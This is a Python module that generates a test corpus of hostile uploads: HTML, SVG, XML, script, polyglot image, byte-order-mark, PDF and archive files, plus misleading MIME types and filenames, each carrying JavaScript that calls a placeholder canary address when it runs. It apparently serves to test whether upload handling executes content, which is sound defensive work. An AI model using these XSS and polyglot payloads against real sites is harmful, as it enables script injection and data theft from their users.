"""Files that would like to run something, whatever name and type they come under.

Each calls home as soon as anything in it is executed: ``CANARY`` is replaced by an address that
names the file. A few hundred bytes each, made here, so that nobody has to keep such files.
"""

import io
import zipfile
from dataclasses import dataclass
from typing import Final

CANARY: Final = "http://canary.invalid/ran"
PNG: Final = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
    "0000000c4944415408d763f8cfc0000003010100c9fe92ef0000000049454e44ae426082"
)
GIF: Final = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
JPEG_HEAD: Final = bytes.fromhex("ffd8ffe000104a46494600010100000100010000")


@dataclass(frozen=True)
class Hostile:
    """A file: its name, the type that its sender claims, its bytes."""

    name: str
    claimed: str
    body: bytes

    def calling(self, home: str) -> "Hostile":
        """The same with the address that it calls."""
        home_bytes = f"{home}/{self.name}".encode()
        return Hostile(self.name, self.claimed, self.body.replace(CANARY.encode(), home_bytes))


SCRIPT: Final = f"new Image().src='{CANARY}';fetch('{CANARY}').catch(()=>0);document.title='ran'"
TAG: Final = f"<script>{SCRIPT}</script>"
HANDLER: Final = f'<img src="data:," onerror="{SCRIPT}">'
PAGE: Final = (
    f"<!doctype html><html><head><title>x</title></head><body>{TAG}{HANDLER}</body></html>"
)
SVG: Final = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'
)
XHTML: Final = (
    f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{SCRIPT}</script></body></html>'
)
DECLARED: Final = '<?xml version="1.0" encoding="UTF-8"?>'
WORKER: Final = f"self.addEventListener('install',()=>fetch('{CANARY}'));fetch('{CANARY}');"
XSL: Final = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    f'<xsl:template match="/"><html><body>{TAG}</body></html></xsl:template></xsl:stylesheet>'
)


def corpus() -> list[Hostile]:
    """Every one of them; no two have the same name."""
    found = [
        *_pages(),
        *_drawings(),
        *_xml(),
        *_scripts(),
        *_polyglots(),
        *_marks(),
        *_containers(),
        *_claims(),
        *_names(),
    ]
    assert len({one.name for one in found}) == len(found)
    return found


def _text(name: str, claimed: str, body: str, encoding: str = "utf-8") -> Hostile:
    return Hostile(name, claimed, body.encode(encoding))


def _pages() -> list[Hostile]:
    bodies = {
        "plain": PAGE,
        "no-doctype": TAG,
        "upper": PAGE.replace("script", "SCRIPT"),
        "handler": HANDLER,
        "body-onload": f'<body onload="{SCRIPT}">',
        "after-spaces": " \n\t\r\n" * 50 + PAGE,
        "after-comment": "<!-- " + "x" * 300 + " -->" + PAGE,
        "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{SCRIPT}&lt;/script&gt;"></iframe>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={CANARY}">{TAG}',
        "meta-refresh-data": f'<meta http-equiv="refresh" content="0;url=data:text/html,{TAG}">{TAG}',
        "base": f'<base href="{CANARY}/"><script src="x.js"></script>{TAG}',
        "form": f'<form action="{CANARY}" id=f><input autofocus onfocus="f.submit()"></form>{TAG}',
        "object": f'<object data="data:text/html,{TAG}"></object>{TAG}',
        "math": f"<math><mtext><script>{SCRIPT}</script></mtext></math>",
        "svg-inside": f"<!doctype html>{SVG}",
        "module": f'<script type="module">{SCRIPT}</script>',
        "details": f'<details open ontoggle="{SCRIPT}">x</details>',
        "video-error": f'<video><source onerror="{SCRIPT}"></video>',
        "style-import": f"<style>@import '{CANARY}';</style>{TAG}",
        "link-icon": f'<link rel="icon" href="{CANARY}">{TAG}',
    }
    return [_text(f"page-{name}.html", "text/html", body) for name, body in bodies.items()]


def _drawings() -> list[Hostile]:
    svg = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    bodies = {
        "script": SVG,
        "declared": DECLARED + SVG,
        "doctype": DECLARED + '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd">' + SVG,
        "entity": DECLARED
        + f'<!DOCTYPE svg [<!ENTITY e "{SCRIPT}">]><svg {svg}><script>&e;</script></svg>',
        "foreign": f'<svg {svg}><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">{XHTML}</body></foreignObject></svg>',
        "animate": f'<svg {svg}><animate attributeName="x" dur="1s" onbegin="{SCRIPT}"/><script>{SCRIPT}</script></svg>',
        "set": f'<svg {svg}><set attributeName="x" onbegin="{SCRIPT}"/></svg>',
        "href": f'<svg {svg}><script xlink:href="data:text/javascript,{SCRIPT}"/></svg>',
        "image": f'<svg {svg}><image href="{CANARY}"/><script>{SCRIPT}</script></svg>',
        "handler": f'<svg {svg}><image href="data:," onerror="{SCRIPT}"/></svg>',
        "namespace": f'<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>{SCRIPT}</x:script></x:svg>',
        "comment": "<!-- " + "y" * 2000 + " -->" + SVG,
        "use": f'<svg {svg}><use href="data:image/svg+xml,x#x"/><script>{SCRIPT}</script></svg>',
    }
    return [_text(f"drawing-{name}.svg", "image/svg+xml", body) for name, body in bodies.items()]


def _xml() -> list[Hostile]:
    styled = f'{DECLARED}<?xml-stylesheet type="text/xsl" href="data:text/xml,{XSL}"?><a/>'
    itself = f'{DECLARED}<?xml-stylesheet type="text/xsl" href="#s"?><a><b id="s">{XSL}</b></a>'
    html = 'xmlns:h="http://www.w3.org/1999/xhtml"'
    return [
        _text("page.xhtml", "application/xhtml+xml", DECLARED + XHTML),
        _text("page-bare.xht", "application/xhtml+xml", XHTML),
        _text("styled.xml", "text/xml", styled),
        _text("styled-itself.xml", "application/xml", itself),
        _text("styled.xsl", "text/xsl", XSL),
        _text("inside.xml", "text/xml", f"{DECLARED}<a {html}><h:script>{SCRIPT}</h:script></a>"),
        _text(
            "feed.rss",
            "application/rss+xml",
            f"{DECLARED}<rss {html}><h:script>{SCRIPT}</h:script></rss>",
        ),
        _text(
            "feed.atom",
            "application/atom+xml",
            f'{DECLARED}<feed xmlns="http://www.w3.org/2005/Atom" {html}><h:script>{SCRIPT}</h:script></feed>',
        ),
        _text(
            "map.kml",
            "application/vnd.google-earth.kml+xml",
            f"{DECLARED}<kml {html}><h:script>{SCRIPT}</h:script></kml>",
        ),
        _text(
            "formula.mml",
            "application/mathml+xml",
            f'<math xmlns="http://www.w3.org/1998/Math/MathML" {html}><h:script>{SCRIPT}</h:script></math>',
        ),
        _text(
            "graph.rdf",
            "application/rdf+xml",
            f"{DECLARED}<rdf {html}><h:script>{SCRIPT}</h:script></rdf>",
        ),
        _text(
            "external.xml",
            "application/xml",
            f'{DECLARED}<!DOCTYPE a SYSTEM "{CANARY}"><a {html}><h:script>{SCRIPT}</h:script></a>',
        ),
        _text(
            "catalogue.xul",
            "application/vnd.mozilla.xul+xml",
            f"{DECLARED}<window {html}><h:script>{SCRIPT}</h:script></window>",
        ),
        _text(
            "voice.vxml",
            "application/voicexml+xml",
            f"{DECLARED}<vxml {html}><h:script>{SCRIPT}</h:script></vxml>",
        ),
    ]


def _scripts() -> list[Hostile]:
    return [
        _text("worker.js", "text/javascript", WORKER),
        _text("module.mjs", "application/javascript", WORKER),
        _text("old.js", "application/x-javascript", WORKER),
        _text("callback.json", "application/json", f"{WORKER}"),
        _text("live.ls", "text/livescript", WORKER),
        _text("style.css", "text/css", f"body{{background:url({CANARY})}} @import '{CANARY}';"),
        _text("component.htc", "text/x-component", f"<public:attach event=onload onevent=x()/>{TAG}"),
        _text("application.hta", "application/hta", f"<hta:application>{PAGE}"),
        _text("shortcut.url", "application/internet-shortcut", f"[InternetShortcut]\nURL={CANARY}\n"),
        _text("code.wat", "text/plain", f"(module) {TAG}"),
        _text("app.webmanifest", "application/manifest+json", f'{{"start_url":"{CANARY}"}}{TAG}'),
        _text("cache.appcache", "text/cache-manifest", f"CACHE MANIFEST\n{CANARY}\n{TAG}"),
        Hostile("code.wasm", "application/wasm", b"\0asm\1\0\0\0" + TAG.encode()),
    ]  # fmt: skip


def _polyglots() -> list[Hostile]:
    tag, page = TAG.encode(), PAGE.encode()
    return [
        Hostile("gif-script.gif", "image/gif", b"GIF89a/*" + b"\0" * 40 + b"*/=1;" + SCRIPT.encode()),
        Hostile("gif-page.gif", "text/html", GIF + page),
        Hostile("gif-comment.gif", "image/gif", GIF[:-1] + b"!\xfe\xff" + tag[:255].ljust(255) + b"\0;"),
        Hostile("png-page.png", "text/html", PNG + page),
        Hostile("png-text.png", "image/png", PNG[:33] + b"\0\0\1\0tEXt" + tag.ljust(256) + b"\0\0\0\0" + PNG[33:]),
        Hostile("jpeg-page.jpg", "text/html", JPEG_HEAD + b"\xff\xfe\x01\x00" + tag.ljust(254) + page),
        Hostile("jpeg-script.jpg", "text/javascript", b"\xff\xd8\xff\xe0/*" + b"\0" * 60 + b"*/=1;" + SCRIPT.encode()),
        Hostile("bmp-script.bmp", "text/javascript", b"BM=1;/*" + b"\0" * 60 + b"*/" + SCRIPT.encode()),
        Hostile("webp-page.webp", "text/html", b"RIFF\x00\x10\x00\x00WEBPVP8L" + page),
        Hostile("ico-page.ico", "text/html", b"\0\0\1\0\1\0" + page),
        Hostile("mp4-page.mp4", "text/html", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + page),
        Hostile("webm-page.webm", "text/html", b"\x1aE\xdf\xa3\x93B\x82\x88webm" + page),
        Hostile("mp3-page.mp3", "text/html", b"ID3\3\0\0\0\0\0\0" + page),
        Hostile("ogg-page.ogg", "text/html", b"OggS\0\2" + page),
        Hostile("wave-page.wav", "text/html", b"RIFF\x24\0\0\0WAVEfmt " + page),
        Hostile("pdf-page.pdf", "text/html", b"%PDF-1.7\n" + page),
        Hostile("zip-page.zip", "text/html", b"PK\3\4" + b"\0" * 26 + page),
        Hostile("gz-page.gz", "text/html", b"\x1f\x8b\x08\0" + page),
        Hostile("flash-page.swf", "text/html", b"FWS\x0a" + page),
        Hostile("svg-in-png.png", "image/png", SVG.encode()),
        Hostile("page-in-jpeg.jpg", "image/jpeg", page),
        Hostile("script-in-png.png", "image/png", WORKER.encode()),
    ]  # fmt: skip


def _marks() -> list[Hostile]:
    """Byte order marks and character sets by which a page hides from who looks at its bytes."""
    return [
        Hostile("mark-utf8.html", "text/html", b"\xef\xbb\xbf" + PAGE.encode()),
        Hostile("mark-utf16le.html", "text/html", b"\xff\xfe" + PAGE.encode("utf-16-le")),
        Hostile("mark-utf16be.html", "text/html", b"\xfe\xff" + PAGE.encode("utf-16-be")),
        Hostile("mark-utf32le.html", "text/html", b"\xff\xfe\0\0" + PAGE.encode("utf-32-le")),
        Hostile("no-mark-utf16.txt", "text/plain", PAGE.encode("utf-16-le")),
        Hostile("mark-utf8.svg", "image/svg+xml", b"\xef\xbb\xbf" + SVG.encode()),
        Hostile("mark-utf16.svg", "image/svg+xml", b"\xff\xfe" + (DECLARED.replace("UTF-8", "UTF-16") + SVG).encode("utf-16-le")),
        Hostile("mark-utf8.txt", "text/plain", b"\xef\xbb\xbf" + PAGE.encode()),
        Hostile("nul.html", "text/html", b"\0" + PAGE.encode()),
        Hostile("control.html", "text/html", b"\x01\x02\x03" + PAGE.encode()),
        _text("utf7.html", "text/html; charset=utf-7", "+ADw-script+AD4-" + SCRIPT + "+ADw-/script+AD4-" + TAG),
        _text("iso2022.html", "text/html; charset=iso-2022-jp", "\x1b(J" + PAGE),
        _text("charset.html", "text/html; charset=x-user-defined", PAGE),
    ]  # fmt: skip


def _containers() -> list[Hostile]:
    mail = (
        f"From: <a@b>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{PAGE}"
    )
    web = (
        "From: <Saved by Blink>\r\nSnapshot-Content-Location: https://example.org/\r\nSubject: x\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/related;type="text/html";boundary="b"\r\n\r\n'
        "--b\r\nContent-Type: text/html\r\nContent-Location: https://example.org/\r\n\r\n"
        f"{PAGE}\r\n--b--\r\n"
    )
    action = f"/OpenAction<</S/JavaScript/JS(app.launchURL('{CANARY}'))>>"
    pdf = f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R{action}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n"
    uri = f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({CANARY})>>>>endobj\ntrailer<</Root 1 0 R>>\n"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n")
        archive.writestr("index.html", PAGE)
    return [
        _text("letter.eml", "message/rfc822", mail),
        _text("saved.mhtml", "multipart/related", web),
        _text("saved.mht", "application/x-mimearchive", web),
        _text("saved.txt", "text/plain", web),
        _text("script.pdf", "application/pdf", pdf),
        _text("link.pdf", "application/pdf", uri),
        _text("form.xdp", "application/vnd.adobe.xdp+xml", f"<xdp:xdp>{TAG}</xdp:xdp>"),
        Hostile("applet.jar", "application/java-archive", packed.getvalue()),
        Hostile("applet.class", "application/java-vm", b"\xca\xfe\xba\xbe\0\0\0\x34" + TAG.encode()),
        Hostile("bundle.wbn", "application/webbundle", b"\x86\x48\xf0\x9f\x8c\x90\xf0\x9f\x93\xa6" + PAGE.encode()),
        Hostile("signed.sxg", "application/signed-exchange", b"sxg1-b3\0" + PAGE.encode()),
        Hostile("movie.swf", "application/x-shockwave-flash", b"CWS\x0a" + TAG.encode()),
        _text("multipart.txt", "multipart/x-mixed-replace", f"--x\r\nContent-Type: text/html\r\n\r\n{PAGE}"),
    ]  # fmt: skip


def _claims() -> list[Hostile]:
    """A page under types that a browser shows, or guesses behind."""
    claims = (
        "image/png", "image/jpeg", "video/mp4", "audio/mpeg", "text/plain", "text/csv", "text/xml",
        "application/octet-stream", "application/unknown", "unknown/unknown", "*/*", "text",
        "text/html", "image/svg+xml", "application/xhtml+xml", "text/vtt", "text/calendar",
        "application/pdf", "text/html;x=y", "TEXT/HTML", "text/ping", "application/ecmascript",
    )  # fmt: skip
    return [
        _text(f"claims-{number:02}.bin", claim, PAGE if number % 2 else SVG)
        for number, claim in enumerate(claims)
    ]


def _names() -> list[Hostile]:
    """A page under names that mislead a server, a browser or a person."""
    names = (
        "photo.jpg.html", "photo.html.jpg", "photo.jpg .html", "photo.HTML", "photo.hTm", "photo",
        ".html", "photo.html.", "photo.shtml", "photo.php", "photo\u202egpj.html",
        "<script>alert(1)<script>.html", '"><script>.html', "photo.html;.jpg", "photo.svgz",
    )  # fmt: skip
    return [_text(name, "image/jpeg", PAGE) for name in names]
